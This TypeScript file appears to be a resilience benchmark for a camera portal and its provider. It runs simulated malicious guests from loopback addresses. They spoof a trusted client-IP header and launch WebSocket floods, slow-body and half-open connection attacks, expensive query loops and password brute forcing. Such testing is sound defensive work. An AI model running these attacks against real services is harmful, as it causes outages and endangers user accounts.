import { request, type IncomingMessage } from 'node:http'
import { connect } from 'node:net'
import { setTimeout as sleep } from 'node:timers/promises'
import WebSocket from 'ws'
import { formatGatewayPath, type Call } from '../../contract/wire/call.ts'
import { EVENT_QUERY_COUNT, ORDER_NEWEST_FIRST, SEARCH_LIMIT, XSRF_HEADER } from '../../contract/wire/constants.ts'
import { eventHistory } from '../../contract/events/events.ts'
import { feedTicket } from '../../contract/events/feed-and-review-calls.ts'
import { getStreams } from '../../contract/live/live-calls.ts'
import { search } from '../../contract/search/search-calls.ts'

/** A malicious guest with its own IP address, signed in at the portal. */
export interface Guest {
  /** Source IP address of the guest's connections: 127.0.0.2 and up. */
  readonly address: string
  readonly cookie: string
  readonly xsrf: string
  readonly camera: string
  readonly portalOrigin: string
  readonly providerOrigin: string
}

/** Number of requests by outcome, shared by all guests. */
export type OutcomeCounts = Record<string, number>

type Attack = (guest: Guest, counts: OutcomeCounts, isEnded: () => boolean) => Promise<void>

const countOutcome = (counts: OutcomeCounts, key: string) => void (counts[key] = (counts[key] ?? 0) + 1)
/** Header in which a proxy forwards the client's IP address. In this benchmark the portal trusts it. */
const CLIENT_IP_HEADER = 'cf-connecting-ip'
const SOCKET_MESSAGES = 2000
const OPEN_REQUESTS = 20

/** Sends one request from the guest's IP address. Returns null if the connection was cut or timed out. */
function sendRequest(
  guest: Guest,
  address: string,
  init: { method?: string; body?: string; headers?: Record<string, string> } = {},
): Promise<{ status: number; text: string } | null> {
  return new Promise((resolve) => {
    const { method = 'GET', body, headers = {} } = init
    const allHeaders = { ...headers, [CLIENT_IP_HEADER]: guest.address }
    const out = request(address, {
      method,
      headers: allHeaders,
      localAddress: guest.address,
      agent: false,
      timeout: 20_000,
    })
    out.on('response', (answer: IncomingMessage) => {
      const chunks: Buffer[] = []
      answer.on('data', (chunk: Buffer) => chunks.push(chunk))
      answer.on('error', () => resolve(null))
      answer.on('end', () => resolve({ status: answer.statusCode ?? 0, text: Buffer.concat(chunks).toString() }))
    })
    out.on('timeout', () => out.destroy())
    out.on('error', () => resolve(null))
    out.end(body)
  })
}

const getPageHeaders = (guest: Guest) => ({
  'content-type': 'application/json',
  origin: guest.portalOrigin,
  'sec-fetch-site': 'same-origin',
  cookie: guest.cookie,
  [XSRF_HEADER]: guest.xsrf,
})

/**
 * Sends a call through the portal as the guest's page does, and counts the outcome. Returns the response body, or null
 * unless the status is 200.
 */
async function sendCall(guest: Guest, counts: OutcomeCounts, contract: Call, payload: object): Promise<string | null> {
  const body = JSON.stringify(payload)
  const init = { method: contract.method, body, headers: getPageHeaders(guest) }
  const answer = await sendRequest(guest, guest.portalOrigin + formatGatewayPath(contract), init)
  countOutcome(counts, `${contract.path} ${answer?.status ?? 'cut'}`)
  return answer?.status === 200 ? answer.text : null
}

function floodSocket(guest: Guest, counts: OutcomeCounts, url: string, message: (n: number) => string): Promise<void> {
  return new Promise((resolve) => {
    const requestOptions = { localAddress: guest.address, headers: { [CLIENT_IP_HEADER]: guest.address } }
    const socket = new WebSocket(url, { origin: guest.portalOrigin, ...requestOptions })
    socket.on('open', () => {
      for (let n = 0; n < SOCKET_MESSAGES; n++) socket.send(message(n), () => undefined)
    })
    const end = (outcome: string) => {
      countOutcome(counts, `socket ${outcome}`)
      resolve()
    }
    socket.on('close', (code) => end(`closed ${code}`))
    socket.on('unexpected-response', (_, answer) => end(`refused ${answer.statusCode}`))
    socket.on('error', () => resolve())
    setTimeout(() => socket.terminate(), 5000).unref()
  })
}

const attackLiveSockets: Attack = async (guest, counts, isEnded) => {
  for (let n = 0; !isEnded(); n++) {
    const text = await sendCall(guest, counts, getStreams, { device_list: [{ device_id: guest.camera }] })
    const url = /"signalling_url":"([^"]+)"/.exec(text ?? '')?.[1]?.replaceAll('\\/', '/')
    const message = (i: number) =>
      n % 2 === 0
        ? JSON.stringify({ action: 'RELAY_RENDITION', name: `r${i}` })
        : JSON.stringify({ action: 'ICE_CANDIDATE', messagePayload: btoa(`candidate ${i}`) })
    if (url) await floodSocket(guest, counts, `${url}&relay=1`, message)
    else await sleep(500)
  }
}

const attackFeedSockets: Attack = async (guest, counts, isEnded) => {
  while (!isEnded()) {
    const text = await sendCall(guest, counts, feedTicket, {})
    const url = /"url":"([^"]+)"/.exec(text ?? '')?.[1]?.replaceAll('\\/', '/')
    if (url) await floodSocket(guest, counts, url, (i) => `${i}`)
    else await sleep(500)
  }
}

/**
 * Keeps 20 requests open, each with a body that grows by one byte per second. Also sends a body of 2 MB each second.
 */
const attackWithBodies: Attack = async (guest, counts, isEnded) => {
  const paths = ['/api/auth/authorize', '/api/auth/refresh', formatGatewayPath(eventHistory), '/t/errors']
  while (!isEnded()) {
    const open = Array.from({ length: OPEN_REQUESTS }, (_, n) => {
      const headers = { ...getPageHeaders(guest), 'transfer-encoding': 'chunked', [CLIENT_IP_HEADER]: guest.address }
      const address = guest.portalOrigin + (paths[n % paths.length] ?? '/')
      const out = request(address, { method: 'POST', headers, localAddress: guest.address, agent: false })
      out.on('response', (answer) => (countOutcome(counts, `slow body ${answer.statusCode}`), answer.resume()))
      out.on('error', () => countOutcome(counts, 'slow body cut'))
      out.write('{"a":"')
      return out
    })
    for (let second = 0; second < 10 && !isEnded(); second++) {
      for (const out of open) out.write('x')
      await sendRequest(guest, guest.portalOrigin + '/api/auth/refresh', {
        method: 'POST',
        body: 'x'.repeat(2_000_000),
        headers: getPageHeaders(guest),
      }).then((answer) => countOutcome(counts, `large body ${answer?.status ?? 'cut'}`))
      await sleep(1000)
    }
    for (const out of open) out.destroy()
  }
}

const attackWithHalfOpenConnections: Attack = async (guest, counts, isEnded) => {
  const { hostname, port } = new URL(guest.providerOrigin)
  while (!isEnded()) {
    const open = Array.from({ length: OPEN_REQUESTS * 2 }, (_, n) => {
      const socket = connect({ host: hostname, port: Number(port), localAddress: guest.address })
      socket.on('error', () => undefined)
      socket.write(n % 2 === 0 ? 'GET /feed HTTP/1.1\r\nHost: a\r\nUpgrade: websocket\r\n' : 'POST /oauth/token HT')
      countOutcome(counts, 'half-open connection')
      return socket
    })
    for (let second = 0; second < 5 && !isEnded(); second++) await sleep(1000)
    for (const socket of open) socket.destroy()
  }
}

const EXPENSIVE_QUERY = 'person dog cat car at the front door with a parcel in the garden at night'
const attackWithExpensiveCalls: Attack = async (guest, counts, isEnded) => {
  const repeatCall = async (contract: Call, payload: () => object) => {
    while (!isEnded()) {
      await sendCall(guest, counts, contract, payload())
      await sleep(20)
    }
  }
  const end = Date.now()
  const begin = end - 60 * 86_400_000
  const filters = { device_macs_to_include: [], event_tags_to_include: [] }
  const lists = { device_id_list: [], event_tag_list: [], event_value_list: [] }
  await Promise.all([
    repeatCall(search, () => ({
      query: EXPENSIVE_QUERY,
      start_ts: begin,
      end_ts: end,
      limit: SEARCH_LIMIT,
      ...filters,
    })),
    repeatCall(eventHistory, () => ({
      begin_time: begin,
      end_time: end,
      count: EVENT_QUERY_COUNT,
      order_by: ORDER_NEWEST_FIRST,
      ...lists,
    })),
  ])
}

/**
 * Sends about 60 wrong passwords per second to the API. Eight of 50 guests run this attack and send about 500 per
 * second together.
 */
const attackSignIn: Attack = async (guest, counts, isEnded) => {
  for (let n = 0; !isEnded(); n++) {
    const body = JSON.stringify({ email: `victim${n % 50}@example.com`, password: `wrong-password-${n}` })
    const headers = { 'content-type': 'application/json' }
    void sendRequest(guest, `${guest.providerOrigin}/api/v2/user/login?source=web`, {
      method: 'POST',
      body,
      headers,
    }).then((answer) => countOutcome(counts, `sign-in ${answer?.status ?? 'cut'}`))
    await sleep(16)
  }
}

const ATTACKS: readonly Attack[] = [
  attackLiveSockets,
  attackFeedSockets,
  attackWithBodies,
  attackWithHalfOpenConnections,
  attackWithExpensiveCalls,
  attackSignIn,
]

/** Lets each guest run one of `ATTACKS` for `seconds`. Returns the number of each outcome. */
export async function runAttacks(guests: readonly Guest[], seconds: number): Promise<OutcomeCounts> {
  const counts: OutcomeCounts = {}
  const end = performance.now() + seconds * 1000
  const isEnded = () => performance.now() > end
  const running = guests.map(async (guest, n) =>
    (ATTACKS[n % ATTACKS.length] ?? attackLiveSockets)(guest, counts, isEnded),
  )
  await Promise.all(running)
  return counts
}
